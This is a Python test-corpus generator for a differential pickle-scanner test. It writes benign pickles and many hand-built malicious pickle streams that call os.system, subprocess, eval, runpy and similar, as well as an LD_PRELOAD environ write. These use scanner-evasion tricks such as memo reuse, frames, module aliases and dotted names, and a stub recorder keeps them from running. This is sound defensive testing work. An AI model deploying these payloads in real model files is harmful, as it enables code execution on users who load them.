"""diffgen.py - corpus builder and CPython recorder for test_differential.py.

    diffgen.py OUTDIR N_MUTANTS SEED

Writes pickles to OUTDIR (real objects at every protocol, the parser- and
semantic-evasion constructions of threats.md B and C, and N_MUTANTS mutated
streams), then loads every file with CPython's C `_pickle.Unpickler` and the
pure-Python `pickle._Unpickler`, with find_class replaced by a recorder that
returns harmless stubs (nothing real is ever imported or called), and writes
OUTDIR/recorded.json: {file: {"c": [[module, name], ...], "cpeek": [...],
"py": [...]}} (C reader over io.BytesIO, C reader over a file with peek(),
pure Python)."""
import collections
import datetime
import decimal
import fractions
import io
import itertools
import json
import os
import pickle
import random
import resource
import signal
import struct
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from spgen import Asm  # noqa: E402


# ---------------------------------------------------------------- stubs
class StubMeta(type):
    """Metaclass so that the stub *class* tolerates item assignment too."""
    def __setitem__(cls, k, v): pass
    def __getitem__(cls, k): return Stub()
    def __getattr__(cls, n): return Stub()
    def __iter__(cls): return iter(())


class Stub(metaclass=StubMeta):
    """What the recorder returns for every global: tolerates any call, BUILD,
    SETITEM, APPEND(S), ADDITEMS, and calling the results again."""
    def __new__(cls, *a, **k): return object.__new__(cls)
    def __init__(self, *a, **k): pass
    def __call__(self, *a, **k): return Stub()
    def __setstate__(*a): pass
    def __setitem__(self, k, v): pass
    def __getitem__(self, k): return Stub()
    def __getattr__(self, n): return Stub()
    def __iter__(self): return iter(())
    def append(*a): pass
    def extend(*a): pass
    def add(*a): pass


def _recorder(base):
    class Rec(base):
        def __init__(self, f, log):
            super().__init__(f, encoding="latin1", buffers=itertools.repeat(b"buf"))
            self.log = log

        def find_class(self, module, name):
            self.log.append([module, name])
            return Stub

        def persistent_load(self, pid):
            return Stub()
    return Rec


RecC = _recorder(pickle.Unpickler)
RecPy = _recorder(pickle._Unpickler)


class _Timeout(Exception):
    pass


_LOADING = [False]


def _alarm(signum, frame):
    if _LOADING[0]:
        _LOADING[0] = False
        raise _Timeout()


def _load(cls, data, log, peek=False):
    _LOADING[0] = True
    signal.setitimer(signal.ITIMER_REAL, 2.0)
    try:
        f = io.BytesIO(data)
        # with peek() the C unpickler prefetches and reads frames linearly;
        # without it (BytesIO, as torch.load) a read past a frame's end skips
        # the frame's tail
        cls(io.BufferedReader(f) if peek else f, log).load()
    finally:
        _LOADING[0] = False
        signal.setitimer(signal.ITIMER_REAL, 0)


def record(data):
    out = {}
    for key, cls, peek in (("c", RecC, False), ("cpeek", RecC, True), ("py", RecPy, False)):
        log = []
        try:
            _load(cls, data, log, peek)
        except _Timeout:
            log.append(["<timeout>", ""])
        except BaseException:  # noqa: B902 - any failure ends the load; what ran is logged
            pass
        out[key] = log
    return out


# ---------------------------------------------------------------- benign objects
class Point:
    def __init__(self, x, y):
        self.x, self.y = x, y


class Slotted:
    __slots__ = ("a", "b")

    def __init__(self):
        self.a, self.b = 1, "two"


class WithState:
    def __init__(self):
        self.v = [1, 2]

    def __getstate__(self):
        return {"v": self.v, "extra": b"\x00\x01"}

    def __setstate__(self, st):
        self.__dict__.update(st)


class KwNew:
    def __new__(cls, *, a=1):
        o = object.__new__(cls)
        o.a = a
        return o

    def __getnewargs_ex__(self):
        return (), {"a": self.a}


Pair = collections.namedtuple("Pair", "left right")


def benign_objects():
    objs = [
        None, True, False, 0, 1, -1, 255, 256, 65535, 65536, 2**31 - 1, -2**31, 2**63, -2**64, 10**100,
        0.0, -1.5, 1e300, float("inf"), "", "ascii", "ünïcödé \u20ac \U0001f600", "x" * 300, b"", b"\x00\xff" * 10,
        bytearray(b"abc"), (), (1,), (1, 2), (1, 2, 3), (1, 2, 3, 4), [], [1, [2, [3, [4]]]], {}, {"a": 1, "b": [1, 2]},
        set(), {1, 2, 3}, frozenset({"a", "b"}), complex(1, 2), range(3), slice(1, 5, 2),
        collections.OrderedDict(a=1), collections.Counter("hello"), collections.deque([1, 2]),
        collections.defaultdict(list, {"k": [1]}), datetime.datetime(2024, 1, 2, 3, 4, 5),
        datetime.date(2020, 2, 29), datetime.timedelta(days=3), decimal.Decimal("3.14"), fractions.Fraction(1, 3),
        Point(1, 2), Slotted(), WithState(), KwNew(a=5), Pair(1, "r"), [Point(i, i) for i in range(5)],
    ]
    shared = [1, 2]
    objs.append({"a": shared, "b": shared, "c": (shared, shared)})
    rec = []
    rec.append(rec)
    objs.append(rec)
    objs.append({"k%d" % i: i for i in range(50)})
    # plain data big enough for the VM's fast loops (9 bytes of window): the
    # kinds-only path runs these (and their mutants) at protocols 4-5
    objs.append([(i, -i * 7, "s%d" % i, i * 0.25, b"b%d" % i, None, True, 2 ** (i + 60)) for i in range(40)])
    objs.append({"k%d" % i: [i, {"n": (i, i + 1)}, {i, i + 1}, frozenset((i,)), [], ()] for i in range(30)})
    return objs


def ml_objects():
    out = []
    try:
        import numpy as np
        out += [np.arange(10), np.zeros((3, 4), dtype=np.float32), np.array([1, "a", None], dtype=object),
                np.random.default_rng(0), np.float64(1.5), np.dtype("int16")]
    except Exception:
        pass
    try:
        import torch
        out += [torch.arange(6).reshape(2, 3), {"w": torch.ones(2), "b": torch.zeros(1)}, torch.device("cpu")]
    except Exception:
        pass
    try:
        import pandas as pd
        out += [pd.DataFrame({"a": [1, 2], "b": ["x", "y"]}), pd.Series(pd.Categorical(["a", "b", "a"]))]
    except Exception:
        pass
    try:
        from sklearn.linear_model import LogisticRegression
        from sklearn.pipeline import Pipeline
        from sklearn.preprocessing import StandardScaler
        out += [Pipeline([("s", StandardScaler()), ("m", LogisticRegression())])]
    except Exception:
        pass
    return out


# ---------------------------------------------------------------- threats B and C
def sbu(s):
    d = s.encode()
    return b"\x8c" + bytes([len(d)]) + d


def threats():
    """(name, bytes) for each construction class of threats.md B and C."""
    t = []
    # B11: broken stream after the payload
    for proto in (0, 2, 4):
        base = Asm(proto).call("os", "system", "touch x").b
        t.append(("b11_garbage_p%d" % proto, bytes(base) + b"\xff\xfe garbage"))
        t.append(("b11_binunicode_eof_p%d" % proto, bytes(base) + b"X\xff\xff\x00\x00abc"))
        t.append(("b11_binget_undef_p%d" % proto, bytes(base) + b"h\x63."))
    # B12: opcodes scanners forget
    t.append(("b12_int_base0", b"I0x10\ncos\nsystem\n(S'ls'\ntR."))
    t.append(("b12_int_octal_bool", b"I010\n0I00\n0I01\n0cos\nsystem\n(S'ls'\ntR."))
    t.append(("b12_float_p0", b"F1.5\n0F-inf\n0cposix\nsystem\n(S'ls'\ntR."))
    t.append(("b12_long_text", b"L12345678901234567890L\n0L0x1F\n0cnt\nsystem\n(S'ls'\ntR."))
    t.append(("b12_bytearray8", b"\x80\x05\x96\x03\x00\x00\x00\x00\x00\x00\x00abc0" + sbu("os") + sbu("system") + b"\x93" + sbu("id") + b"\x85R."))
    t.append(("b12_buffers", b"\x80\x05\x97\x98\x97\x30\x30" + sbu("builtins") + sbu("exec") + b"\x93" + sbu("1") + b"\x85R."))
    t.append(("b12_frame", b"\x80\x04\x95\x20\x00\x00\x00\x00\x00\x00\x00" + sbu("os") + sbu("system") + b"\x93" + sbu("id") + b"\x85R."))
    t.append(("b12_frame_past_eof", b"\x80\x04\x95\xff\xff\x00\x00\x00\x00\x00\x00" + sbu("os") + sbu("system") + b"\x93" + sbu("id") + b"\x85R."))
    t.append(("b12_string_escapes", b"cos\nsystem\n(S'echo \\x41\\n\\101\\'q'\ntR."))
    t.append(("b12_unicode_escapes", b"cos\nsystem\n(Vecho \\u0041 \\U0001f600\ntR."))
    # B13: memo games
    t.append(("b13_put_memoize_mix", b"\x80\x04" + sbu("os") + b"p5\n\x94" + sbu("system") + b"\x94" + b"0h\x05h\x01\x93" + sbu("id") + b"\x85R."))
    t.append(("b13_redefine", b"\x80\x04" + sbu("json") + b"q\x00" + sbu("os") + b"q\x00" + b"0" + sbu("loads") + b"q\x01" + sbu("system") + b"q\x01" + b"00h\x00h\x01\x93" + sbu("id") + b"\x85R."))
    t.append(("b13_memoize_after_get", b"\x80\x04" + sbu("os") + b"\x94h\x00\x94" + sbu("system") + b"\x94\x93" + sbu("id") + b"\x85R."))
    t.append(("b13_stack_global_string_noproto", b"S'os'\nS'system'\n\x93(S'id'\ntR."))
    t.append(("b13_stack_global_unicode", b"Vos\nVsystem\n\x93(Vid\ntR."))
    t.append(("b13_long_binput", b"\x80\x04" + sbu("os") + b"r\xff\xff\xff\x7f" + sbu("system") + b"\x930j\xff\xff\xff\x7f" + sbu("nt") + b"\x93."))
    # B14: several pickles, throwaway in front
    t.append(("b14_stacked", pickle.dumps([1, 2], 2) + pickle.dumps("x", 0) + Asm(2).call("os", "system", "id").stop()))
    # B15: resource exhaustion
    t.append(("b15_deep_marks", b"(" * 5000 + b"cos\nsystem\n(S'id'\ntR."))
    t.append(("b15_deep_lists", b"]" * 5000 + b"cos\nsystem\n(S'id'\ntR."))
    t.append(("b15_memo_bomb", b"N" + b"".join(b"r" + struct.pack("<I", 0x7fffffff - i * 7919) for i in range(200)) + b"0cos\nsystem\n(S'id'\ntR."))
    # C16: aliases and compat names
    for proto in (0, 1, 2, 3, 4):
        t.append(("c16_builtin_p%d" % proto, Asm(proto).call("__builtin__", "eval", "1").stop()))
        t.append(("c16_copy_reg_p%d" % proto, Asm(proto).call("copy_reg", "_reconstructor", None).stop()))
        t.append(("c16_exceptions_p%d" % proto, Asm(proto).call("exceptions", "OSError", "x").stop()))
    t.append(("c16_posix", Asm(2).call("posix", "system", "id").stop()))
    t.append(("c16_operator", Asm(2).call("_operator", "attrgetter", "system").stop()))
    # C17: dotted names under protocol >= 4
    for mod, name in (("torch", "serialization.os.system"), ("numpy", "__builtins__.eval"),
                      ("builtins", "dict.get"), ("os.path", "os.system")):
        t.append(("c17_" + name.replace(".", "_"), Asm(4).call(mod, name, "id").stop()))
    t.append(("c17_dotted_p2_global", b"\x80\x02cbuiltins\ngetattr.__call__\n(S'x'\ntR."))
    # C19: reflection and trampolines
    a = Asm(2)
    a.global_("builtins", "getattr").mark().global_("os", "path").str_("system").tuple_().reduce()
    a.mark().str_("id").tuple_().reduce()
    t.append(("c19_getattr_call_of_call", a.stop()))
    a = Asm(4)
    a.global_("operator", "getitem").mark().global_("sys", "modules").str_("os").tuple_().reduce().pop()
    a.global_("importlib", "import_module").mark().str_("os").tuple_().reduce()
    t.append(("c19_getitem_import_module", a.stop()))
    t.append(("c19_stack_global_dynamic", b"\x80\x04cos\nname\n" + sbu("system") + b"\x93" + sbu("id") + b"\x85R."))
    # C20: BUILD on a global, then read the attribute back
    a = Asm(2)
    a.global_("collections", "OrderedDict").empty_dict().str_("x").global_("os", "system").setitem().op(b"b").pop()
    a.global_("collections", "OrderedDict.x", stack=False).mark().str_("id").tuple_().reduce()
    t.append(("c20_build_global", a.stop()))
    a = Asm(2)
    a.global_("os", "environ").str_("LD_PRELOAD").str_("/tmp/x.so").setitem().pop().none()
    t.append(("c20_setitem_environ", a.stop()))
    # C21: code objects
    a = Asm(3)
    a.global_("types", "FunctionType").mark().global_("marshal", "loads").mark().bytes_(b"\xe3" + b"\x00" * 20).tuple_().reduce()
    a.empty_dict().tuple_().reduce().mark().tuple_().reduce()
    t.append(("c21_function_type", a.stop()))
    # C22: one-gadgets via INST, OBJ, NEWOBJ, NEWOBJ_EX
    t.append(("c22_inst", b"(S'import os'\nirunpy\n_run_code\n."))
    t.append(("c22_obj", b"(cbdb\nBdb\nS'x'\no."))
    t.append(("c22_newobj", b"\x80\x02ccode\nInteractiveInterpreter\n)\x81."))
    t.append(("c22_newobj_ex", b"\x80\x04" + sbu("timeit") + sbu("Timer") + b"\x93)}\x92."))
    t.append(("c22_ext", b"\x80\x02\x82\x01\x83\x02\x01\x84\x03\x00\x00\x00."))
    t.append(("c22_persid", b"Pfoo\n0\x80\x02U\x03bar\x51cos\nsystem\n(S'id'\ntR."))
    # C23: discarded result, payload hidden under a dict value
    t.append(("c23_discard", Asm(2).call("os", "system", "id").pop().none().stop()))
    a = Asm(2)
    a.empty_dict().str_("weights").call("subprocess", "check_output", "id").setitem()
    t.append(("c23_hidden_in_dict", a.stop()))
    a = Asm(2)
    a.mark().call("os", "system", "a").call("os", "system", "b").op(b"1").none()
    t.append(("c23_pop_mark", a.stop()))
    return t


# ---------------------------------------------------------------- mutation
PAYLOADS = [
    b"cos\nsystem\n(S'id'\ntR",
    b"\x8c\x02os\x8c\x06system\x93\x8c\x02id\x85R",
    b"cbuiltins\neval\n(V1\ntR",
    b"(S'x'\nirunpy\n_run_code\n",
    b"\x80\x02csubprocess\nPopen\n]\x85R",
]


def mutate(rng, seeds):
    name, data = rng.choice(seeds)
    b = bytearray(data)
    kind = rng.randrange(6)
    if kind == 0 and b:            # byte flips
        for _ in range(rng.randint(1, 4)):
            b[rng.randrange(len(b))] = rng.randrange(256)
    elif kind == 1 and b:          # truncation
        b = b[:rng.randrange(len(b))]
    elif kind == 2:                # splice a payload into a stream
        p = rng.choice(PAYLOADS)
        at = rng.randrange(len(b) + 1)
        b = b[:at] + p + b[at:]
    elif kind == 3 and b:          # delete a range
        i = rng.randrange(len(b))
        del b[i:i + rng.randint(1, 8)]
    elif kind == 4:                # insert random opcode bytes
        at = rng.randrange(len(b) + 1)
        ins = bytes(rng.choice(b"(.0123NIJKLMPQRSTUVXabcdeghijlopqrstu}]\x80\x81\x82\x85\x86\x87\x88\x8c\x93\x94\x95")
                    for _ in range(rng.randint(1, 6)))
        b = b[:at] + ins + b[at:]
    else:                          # splice two streams
        _, other = rng.choice(seeds)
        i, j = rng.randrange(len(b) + 1), rng.randrange(len(other) + 1)
        b = b[:i] + other[j:]
    return name, bytes(b)


def main():
    out, nmut, seed = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    os.makedirs(out, exist_ok=True)
    signal.signal(signal.SIGALRM, _alarm)
    files = {}
    for i, obj in enumerate(benign_objects() + ml_objects()):
        for proto in range(0, pickle.HIGHEST_PROTOCOL + 1):
            try:
                files["obj%03d_p%d.pkl" % (i, proto)] = pickle.dumps(obj, protocol=proto)
            except Exception:
                pass
    for name, data in threats():
        files["threat_%s.pkl" % name] = data
    seeds = [(k, v) for k, v in files.items() if len(v) < 20000]
    rng = random.Random(seed)
    for i in range(nmut):
        name, data = mutate(rng, seeds)
        files["mut%05d.pkl" % i] = data
    # CPython's C unpickler grows its memo array to the largest PUT index:
    # cap the address space so a hostile index fails fast with MemoryError.
    resource.setrlimit(resource.RLIMIT_AS, (3 << 30, 3 << 30))
    recorded = {}
    for name, data in files.items():
        with open(os.path.join(out, name), "wb") as f:
            f.write(data)
        recorded[name] = record(data)
    with open(os.path.join(out, "recorded.json"), "w") as f:
        json.dump(recorded, f)


if __name__ == "__main__":
    main()
